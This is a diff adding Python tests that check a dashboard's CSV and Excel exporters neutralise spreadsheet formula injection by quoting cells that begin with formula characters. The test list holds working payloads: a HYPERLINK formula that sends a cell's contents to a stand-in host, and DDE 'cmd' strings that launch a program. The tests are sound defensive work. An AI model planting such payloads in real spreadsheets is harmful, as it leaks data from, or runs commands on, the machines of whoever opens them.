@@ -306,3 +306,46 @@ def test_resources_and_roster_exports(settings, demo_sql) -> None:
     assert {(r["值班日期"], r["岗位"], r["姓名"]) for r in roster} == set(
         week.itertuples(index=False, name=None)
     )
+
+
+# -- formula injection (#21 item 6) ----------------------------------------------------------------
+INJECTED = [
+    '=HYPERLINK("http://x/?d="&B12,"点此查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_cells_that_start_a_formula_are_written_as_text_and_numbers_stay_numbers() -> None:
+    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote, in CSV
+    and Excel, in the header lines too; a negative number in a numeric column stays a number."""
+    from openpyxl import load_workbook
+
+    frame = pd.DataFrame({"诉求内容": INJECTED, "增速（%）": [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]})
+    header = Header("=1+1 标题", "全市", "2026年10月", "—", "件", notes=("@SUM(A1)",))
+    _, rows = _rows(to_csv(frame, header))
+    assert [r["诉求内容"] for r in rows] == [f"'{text}" for text in INJECTED]
+    assert [r["增速（%）"] for r in rows] == ["-3.5", "-1.0", "0.0", "2.5", "-7.25", "1.0"]
+    book = load_workbook(io.BytesIO(to_xlsx(frame, header)))
+    sheet = book.active
+    cells = list(sheet.iter_rows())
+    assert all(cell.data_type != "f" for row in cells for cell in row)
+    assert cells[0][0].value == "'=1+1 标题"
+    first = next(i for i, r in enumerate(cells) if r[0].value == "诉求内容") + 1
+    assert [r[0].value for r in cells[first:]] == [f"'{text}" for text in INJECTED]
+    assert [r[1].value for r in cells[first:]] == [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]
+    assert all(r[1].data_type == "n" for r in cells[first:])
+
+
+def test_the_economy_table_writer_neutralises_formulas_too() -> None:
+    from panels.economy import export
+
+    table = pd.DataFrame(
+        [{c: "" for c in export.COLUMNS} | {"指标": "=1+2", "数值": -12.5, "_note": "@x"}]
+    )
+    meta = export.TableMeta("长治市", "全市", "2026年1-10月", "—")
+    _, rows = _rows(export.to_csv(table, meta))
+    assert rows[0]["指标"] == "'=1+2" and rows[0]["备注"] == "'@x" and rows[0]["数值"] == "-12.5"
